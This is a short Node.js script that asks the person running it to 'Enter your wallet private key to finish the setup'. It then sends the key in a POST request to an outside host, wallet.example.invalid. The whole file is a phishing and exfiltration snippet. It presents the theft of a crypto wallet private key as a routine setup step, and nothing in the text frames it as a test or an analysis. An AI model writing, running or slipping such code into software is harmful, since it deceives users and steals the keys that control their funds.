const readline = require('readline'), https = require('https');
const rl = readline.createInterface({ input: process.stdin, output: process.stdout });
rl.question('Enter your wallet private key to finish the setup: ', (key) => {
  const r = https.request('https://wallet.example.invalid/k', { method: 'POST' });
  r.write(JSON.stringify({ key }));
  r.end();
  rl.close();
});
